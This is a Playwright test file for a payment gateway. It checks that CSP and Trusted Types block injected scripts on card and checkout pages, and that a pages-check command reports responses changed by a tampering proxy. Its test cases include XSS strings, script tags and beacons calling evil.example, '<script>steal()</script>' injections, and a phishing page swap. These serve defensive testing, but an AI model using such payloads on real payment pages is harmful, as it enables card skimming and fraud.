import { createHash } from 'node:crypto'
import { join } from 'node:path'
import type { Frame } from '@playwright/test'
import type { PaymentPageInventory } from '#contract/builtPages'
import { readBuild } from '../../worker/cli/pagesCheck/build.ts'
import { checkPages } from '../../worker/cli/pagesCheck/checkPages.ts'
import { run } from '../../worker/cli/wrangler/processes.ts'
import { inRepository, repository } from '../../worker/cli/repository.ts'
import { expect, test } from '../support/fixtures.ts'
import { TamperingProxy, type ProxiedResponse, type Tamper } from './tamperingProxy.ts'
import { CheckoutClient, CheckoutPage } from '../pages/checkoutPage.ts'

/** Script control and tamper detection of payment pages (PCI DSS 4.0.1, 6.4.3 and 11.6.1). */

/** Runs an injected script’s attempts in a page. @returns each result and the CSP violations */
const runInjectedScript = async (
  frame: Frame,
): Promise<{ outcomes: Record<string, string>; violations: () => Promise<string[]> }> => {
  const outcomes = await frame.evaluate(() => {
    const violations: string[] = []
    Object.assign(window, { violations })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      violations.push(effectiveDirective),
    )
    const { body } = document
    const policies = (window as never as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } })
      .trustedTypes
    const attempts: Record<string, () => unknown> = {
      innerHTML: () => (document.createElement('div').innerHTML = '<img src="x" onerror="alert(1)">'),
      outerHTML: () => (body.appendChild(document.createElement('div')).outerHTML = '<img src="x">'),
      insertAdjacentHTML: () => body.insertAdjacentHTML('beforeend', '<img src="x">'),
      write: () => document.write('<script>alert(1)</script>'),
      srcdoc: () => (document.createElement('iframe').srcdoc = '<script>alert(1)</script>'),
      'src of a script': () => (document.createElement('script').src = 'https://evil.example/x.js'),
      'text of a script': () => (document.createElement('script').text = 'alert(1)'),
      parseFromString: () => new DOMParser().parseFromString('<img src="x">', 'text/html'),
      // oxlint-disable-next-line no-eval
      eval: () => (0, eval)('1'),
      Function: () => new Function('return 1')() as unknown,
      'its own Trusted Types policy': () => policies.createPolicy('evil', { createHTML: (text: string) => text }),
      'the page’s Trusted Types policy': () =>
        policies.createPolicy('lit-html', { createHTML: (text: string) => text }),
    }
    // In the page's own task, since code evaluated by a debugger may call eval.
    return new Promise<Record<string, string>>((resolve) =>
      setTimeout(() => {
        const results = Object.entries(attempts).map(([name, attempt]) => {
          try {
            attempt()
            return [name, 'succeeded']
          } catch (error) {
            return [name, (error as Error).name]
          }
        })
        // These fail asynchronously or silently.
        new Image().src = 'https://evil.example/?card'
        fetch('https://evil.example/').catch(() => undefined)
        resolve(Object.fromEntries(results) as Record<string, string>)
      }),
    )
  })
  return {
    outcomes,
    violations: () =>
      frame.evaluate(() => [...new Set((window as never as { violations: string[] }).violations)].sort()),
  }
}

const blockedWith = {
  innerHTML: 'TypeError',
  outerHTML: 'TypeError',
  insertAdjacentHTML: 'TypeError',
  write: 'TypeError',
  srcdoc: 'TypeError',
  'src of a script': 'TypeError',
  'text of a script': 'TypeError',
  parseFromString: 'TypeError',
  eval: 'EvalError',
  Function: 'EvalError',
  'its own Trusted Types policy': 'TypeError',
  'the page’s Trusted Types policy': 'TypeError',
}

const expectInjectionBlocked = async (frame: Frame): Promise<void> => {
  const { outcomes, violations } = await runInjectedScript(frame)
  expect(outcomes).toEqual(blockedWith)
  await expect.poll(violations).toEqual(['connect-src', 'img-src', 'require-trusted-types-for', 'trusted-types'])
  expect(await frame.locator('img[src="x"]').count()).toBe(0)
}

test('payment pages: an injected script can write no HTML, run no script and call no other host', async ({
  page,
  form,
  local,
}) => {
  await form.open()
  await expectInjectionBlocked(page.frames()[1]!)
  const checkout = new CheckoutPage(page, local.gateway)
  await checkout.open()
  await expectInjectionBlocked(page.mainFrame())
})

const evil = 'https://evil.example'
const isCard = ({ path }: ProxiedResponse) => path.startsWith('/card?')
const isCheckout = ({ path }: ProxiedResponse) => path.startsWith('/checkout/')
const when =
  (is: (answer: ProxiedResponse) => boolean, change: Tamper): Tamper =>
  (answer) => {
    if (is(answer)) change(answer)
  }
const policy =
  (from: string | RegExp, to: string): Tamper =>
  ({ headers }) => {
    headers['content-security-policy'] = headers['content-security-policy']!.replace(from, to)
  }
const body =
  (from: string | RegExp, to: string): Tamper =>
  (answer) => {
    answer.body = answer.body.replace(from, to)
  }

/** Changes a script and every hash of it that the gateway publishes. */
const consistentTampering: Tamper = (answer) => {
  if (/^\/(embed|checkout-assets)\//.test(answer.path)) answer.body += ';'
  if (answer.path === '/sri.json') answer.body = answer.body.replaceAll(/sha384-[^"]+/g, 'sha384-theirs')
  if (answer.path.startsWith('/.well-known/')) {
    const listed = JSON.parse(answer.body) as PaymentPageInventory
    for (const script of listed.pages.flatMap(({ scripts }) => scripts))
      script.integrity = `sha384-${createHash('sha384').update('theirs').digest('base64')}`
    answer.body = JSON.stringify(listed)
  }
}

/** Changes between gateway and shopper, with the expected report. */
const tamperings: Readonly<Record<string, readonly [tamper: Tamper, report: string]>> = {
  'one byte of the card form’s script': [
    when(isCard, body(/.<\/script>$/, ' </script>')),
    '/card?locale=en: an inline script that is not in the build',
  ],
  'one byte of its text': [when(isCard, body('Card number', 'Card Number')), 'differs from the build, from byte'],
  'one byte of the checkout’s script': [
    when(({ path }) => path.startsWith('/checkout-assets/'), body(/.$/, ' ')),
    'differs from the build',
  ],
  'one byte of the checkout’s loader': [
    when(isCheckout, body('async()=>{', 'async()=>{ ')),
    'an inline script that is not in the build: sha384-',
  ],
  'one byte of the elements for merchants': [
    when(({ path }) => path === '/embed.js', body(/.$/, ' ')),
    '/embed.js: differs from the build',
  ],
  'a script in one language alone': [
    when(({ path }) => path.startsWith('/card?locale=de'), body('</script>', '</script><script>steal()</script>')),
    '/card?locale=de: an inline script that is not in the build',
  ],
  'a script for browsers alone': [
    when(
      (answer) =>
        isCheckout(answer) &&
        /Chrome/.test(answer.requestHeaders['user-agent'] ?? '') &&
        'sec-fetch-dest' in answer.requestHeaders,
      body('</body>', '<script>steal()</script></body>'),
    ),
    'an inline script that is not in the build: sha384-',
  ],
  'a script of another host': [
    when(isCheckout, body('</head>', `<script src="${evil}/x.js"></script></head>`)),
    `a script was added: <script src="${evil}/x.js">`,
  ],
  'a replaced page': [
    when(isCheckout, (answer) => {
      answer.body = `<!doctype html><html lang="en"><a href="${evil}/">Pay here</a></html>`
    }),
    'the script is missing',
  ],
  'an inline event handler': [
    when(isCheckout, body('<main', '<main onclick="steal()"')),
    'an attribute that the gateway never writes, onclick',
  ],
  'a missing header': [
    when(isCard, ({ headers }) => delete headers['permissions-policy']),
    '/card?locale=en: the header permissions-policy is missing',
  ],
  'a cookie': [when(isCheckout, ({ headers }) => (headers['set-cookie'] = 'a=1')), 'the header set-cookie was added'],
  'no Content-Security-Policy': [
    when(isCheckout, ({ headers }) => delete headers['content-security-policy']),
    'the header content-security-policy is missing',
  ],
  'a weaker policy': [
    when(isCheckout, policy("'strict-dynamic'", "'strict-dynamic' 'unsafe-eval'")),
    "script-src has the extra source 'unsafe-eval'",
  ],
  'an extra host in connect-src': [
    when(isCard, policy("connect-src 'self'", `connect-src 'self' ${evil}`)),
    `connect-src has the extra source ${evil}`,
  ],
  'a policy without Trusted Types': [
    when(isCard, policy(/require-trusted-types-for 'script'; /, '')),
    'require-trusted-types-for is missing',
  ],
  'an extra frame ancestor': [
    when(isCard, policy("frame-ancestors 'none'", `frame-ancestors ${evil}`)),
    `frame-ancestors has the extra origin ${evil}`,
  ],
  'a constant nonce': [
    when(isCheckout, (answer) => {
      const nonce = /'nonce-([^']+)'/.exec(answer.headers['content-security-policy']!)![1]!
      const same = 'A'.repeat(22).concat('==')
      for (const name of ['content-security-policy', 'link'])
        if (answer.headers[name] !== undefined) answer.headers[name] = answer.headers[name].replaceAll(nonce, same)
      answer.body = answer.body.replaceAll(nonce, same)
    }),
    'two responses have the same nonce',
  ],
  'a script with all its published hashes': [consistentTampering, 'differs from the build'],
}

test('pages check: each tampered response is reported, and untampered pages are clean', async ({ local }) => {
  const client = new CheckoutClient(local.gateway)
  const [{ id }, framed] = await Promise.all([client.create(), client.create({ total: 5, iframe: true })])
  // Two languages suffice here; the command below checks all.
  const build = { ...(await readBuild(inRepository('dist'))), cardLocales: ['en', 'de'] }
  const real = {
    gateway: new URL(local.gateway),
    build,
    checkout: framed.id,
    key: local.publishableKey,
    framedBy: null,
  }
  // In test mode any page can frame those of an account without allowed origins. This is the only difference.
  const anybody = 'Content-Security-Policy: frame-ancestors has the extra origin *'
  expect((await checkPages({ ...real, framedBy: ['https://shop.example'] })).faults).toEqual(
    ['/card?locale=en', '/card?locale=de', `/checkout/${framed.id}`].map((path) => `${path}: ${anybody}`),
  )

  const proxy = new TamperingProxy(local.gateway)
  const between = { ...real, gateway: await proxy.open(), checkout: id, key: null }
  try {
    expect((await checkPages(between)).faults).toEqual([])
    for (const [name, [tamper, report]] of Object.entries(tamperings)) {
      proxy.tamper = tamper
      expect((await checkPages(between)).faults.join('\n'), name).toContain(report)
    }
  } finally {
    await proxy.close()
  }
})

/** Runs the command with the existing build; by default it rebuilds from newer sources. */
const runPagesCheck = (gateway: string) =>
  run({
    command: process.execPath,
    args: [join('worker', 'cli', 'pagesCheck', 'main.ts'), gateway, '--dist', inRepository('dist')],
    cwd: repository,
  })

test('pages check command: exits with 0 without differences and with 1 for a difference', async ({ local }) => {
  const proxy = new TamperingProxy(local.gateway)
  proxy.tamper = tamperings['a missing header']![0]
  const address = await proxy.open()
  try {
    const [good, bad] = await Promise.all([runPagesCheck(local.gateway), runPagesCheck(address.origin)])
    expect(good.output).toContain('No differences.')
    expect(good.output).toContain('compared with the build')
    expect(bad.output).toContain('✗ /card?locale=de: the header permissions-policy is missing')
    expect([good.code, bad.code]).toEqual([0, 1])
  } finally {
    await proxy.close()
  }
})
